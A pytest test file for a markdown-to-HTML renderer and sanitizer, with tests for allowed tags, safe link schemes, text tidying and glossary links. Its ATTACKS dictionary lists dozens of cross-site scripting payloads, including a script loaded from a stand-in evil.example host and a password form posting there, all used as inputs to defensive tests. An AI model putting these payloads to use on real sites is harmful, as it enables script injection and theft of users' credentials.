import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from articles.glossary.entries import ExplainedTerm, Glossary
from articles.markdown import parser, plain_text, render, render_explained, tidy

ALLOWED = {
    *("p", "br", "hr", "ul", "ol", "li", "blockquote", "pre", "code", "strong", "em", "a"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}


class Page(HTMLParser):
    """What a browser would make of the HTML: every tag with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def addresses(self) -> list[str]:
        return [attrs["href"] or "" for _tag, attrs in self.tags if "href" in attrs]


ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script in upper case": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script nested in itself": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "event handler": '<img src=x onerror="alert(1)">',
    "event handler on a link": '<a href="#" onclick="alert(1)">x</a>',
    "svg": "<svg/onload=alert(1)>",
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "style": "<style>body{background:url(javascript:alert(1))}</style>",
    "inline style": '<p style="position:fixed">x</p>',
    "form": '<form action="//evil.example"><input name=password></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "base": '<base href="//evil.example/">',
    "comment": "<!--><script>alert(1)</script>-->",
    "javascript link": "[x](javascript:alert(1))",
    "javascript link in upper case": "[x](JaVaScRiPt:alert(1))",
    "javascript link with an entity": "[x](javascript&colon;alert(1))",
    "javascript link with a tab": "[x](java&Tab;script:alert(1))",
    "javascript link with a control character": "[x](&#1;javascript:alert(1))",
    "javascript autolink": "<javascript:alert(1)>",
    "javascript by reference": "[x][1]\n\n[1]: javascript:alert(1)",
    "vbscript link": "[x](vbscript:msgbox(1))",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "data link that claims to be a picture": "[x](data:image/png;base64,PHNjcmlwdD4=)",
    "data picture": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "file link": "[x](file:///etc/passwd)",
    "quotation mark in an address": '[x](https://a.example/"onmouseover="alert(1))',
    "quotation mark in a title": "[x](https://a.example '\"onmouseover=\"alert(1)')",
    "quotation mark in a picture's text": '![" onerror="alert(1)](https://a.example/x.png)',
    "crafted heading": '# <img src=x onerror=alert(1)> {#x" onclick="alert(1)}',
    "crafted anchor": '## x {#"><script>alert(1)</script>}',
    "language of a code block": '```"><script>alert(1)</script>\nx\n```',
    "nested lists and quotes": "> - > - <script>alert(1)</script>\n>   1. [x](javascript:alert(1))",
    "cell of a table": "|a|\n|-|\n|<script>alert(1)</script>|\n",
    "aligned table": "|a|\n|:-:|\n|b|\n",
    "link around a link": "[a [b](javascript:alert(1))](javascript:alert(2))",
    "half a tag": "<img src=x onerror=alert(1)//",
    "null character": "<scr\0ipt>alert(1)</scr\0ipt>",
}


def assert_harmless(html: str) -> None:
    page = Page(html)
    for tag, attributes in page.tags:
        assert tag in ALLOWED
        assert set(attributes) <= {"href", "title", "rel", "start"}
    for address in page.addresses():
        # As browsers read it: without control characters and spaces around it, tabs and line ends within it.
        seen = re.sub(r"[\t\r\n]", "", re.sub(r"^[\x00-\x20]+", "", address))
        scheme = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", seen)
        assert scheme is None or scheme[1].lower() in {"http", "https", "mailto", "tel"}


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS)
def test_an_attack_becomes_harmless(text):
    assert_harmless(render(text))


@given(st.text() | st.lists(st.sampled_from(sorted(ATTACKS.values()))).map("\n".join))
def test_no_text_becomes_anything_but_allowed_html(text):
    assert_harmless(render(text, "/articles/x/"))


def test_the_cleaner_alone_takes_off_what_a_parser_lets_through(monkeypatch):
    monkeypatch.setitem(parser.options, "html", True)
    assert render('<p id="main" style="x" onclick="y">a</p><script>b</script>') == "<p>a</p>"


def test_html_is_shown_as_text():
    assert render("Less than <b>5</b>") == "<p>Less than &lt;b&gt;5&lt;/b&gt;</p>\n"


def test_markdown_becomes_html():
    assert render("*a* **b**\n\n- c\n") == "<p><em>a</em> <strong>b</strong></p>\n<ul>\n<li>c</li>\n</ul>\n"


@pytest.mark.parametrize(
    "address", ["https://nhs.example/x", "http://a.example", "//a.example/x", "HTTPS://a.example"]
)
def test_an_external_link_gives_its_page_no_way_back(address):
    assert Page(render(f"[x]({address})")).tags[1][1]["rel"] == "noopener"


@pytest.mark.parametrize("address", ["/articles/", "#next-steps", "mailto:a@b.example", "tel:999"])
def test_other_links_stay_plain(address):
    assert Page(render(f"[x]({address})")).tags[1][1] == {"href": address}


def test_a_link_to_an_anchor_leads_to_the_page_of_the_text():
    assert Page(render("[x](#next-steps)", "/articles/a/")).addresses() == ["/articles/a/#next-steps"]


def test_a_list_keeps_its_first_number():
    assert '<ol start="5">' in render("5. a\n6. b\n")


@pytest.mark.parametrize(
    ("text", "tidied"),
    [
        ("\n \n  a\n\n", "  a"),
        ("a\r\nb\rc", "a\nb\nc"),
        ("    code\n", "    code"),
        ("  \n", ""),
    ],
)
def test_a_text_is_tidied_without_changing_its_meaning(text, tidied):
    assert tidy(text) == tidied


@given(st.text(alphabet="a \n\t#-`\r\u00a0"))
def test_tidying_twice_is_tidying_once(text):
    assert tidy(tidy(text)) == tidy(text)


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        ("**Bold** and *em*, [link](https://a.example)\nnext", "Bold and em, link next"),
        ("One.\n\nTwo", "One. Two"),
        ("These:\n\n- one\n- two", "These: one; two"),
        ("`code` &amp; <b>", "code & <b>"),
        ("", ""),
    ],
)
def test_plain_text_is_what_a_reader_would_read_aloud(text, plain):
    assert plain_text(text) == plain


# Words explained

GLOSSARY = Glossary([ExplainedTerm("tic", "x"), ExplainedTerm("myelin", "x"), ExplainedTerm("EMG", "x")])


def explained(text):
    html, words = render_explained(text, "/articles/a/", GLOSSARY)
    return html.strip(), [entry.term for entry in words]


@pytest.mark.parametrize(
    ("text", "html", "words"),
    [
        ("A tic, a tic.", '<p>A <a href="#word:tic">tic</a>, a tic.</p>', ["tic"]),
        ("*Myelin*", '<p><em><a href="#word:myelin">Myelin</a></em></p>', ["myelin"]),
        ("- tic\n- tic", '<ul>\n<li><a href="#word:tic">tic</a></li>\n<li>tic</li>\n</ul>', ["tic"]),
        ("[a tic](#b)", '<p><a href="/articles/a/#b">a tic</a></p>', []),
        ("`tic`", "<p><code>tic</code></p>", []),
        (
            "tic & <b>EMG</b>",
            '<p><a href="#word:tic">tic</a> &amp; &lt;b&gt;<a href="#word:emg">EMG</a>&lt;/b&gt;</p>',
            ["tic", "EMG"],
        ),
        ("[x](#b) tic", '<p><a href="/articles/a/#b">x</a> <a href="#word:tic">tic</a></p>', ["tic"]),
        ("Nothing.", "<p>Nothing.</p>", []),
    ],
)
def test_the_first_place_of_a_word_leads_to_its_explanation(text, html, words):
    assert explained(text) == (html, words)


@given(st.text(alphabet="tic *_`[](#)<>&-\n1.|EMG"))
def test_linking_words_changes_nothing_but_the_links(text):
    html, _words = render_explained(text, "/a/", GLOSSARY)
    without = re.sub(r'<a href="#word:[a-z]+">(.*?)</a>', r"\1", html)
    assert without == render(text, "/a/")
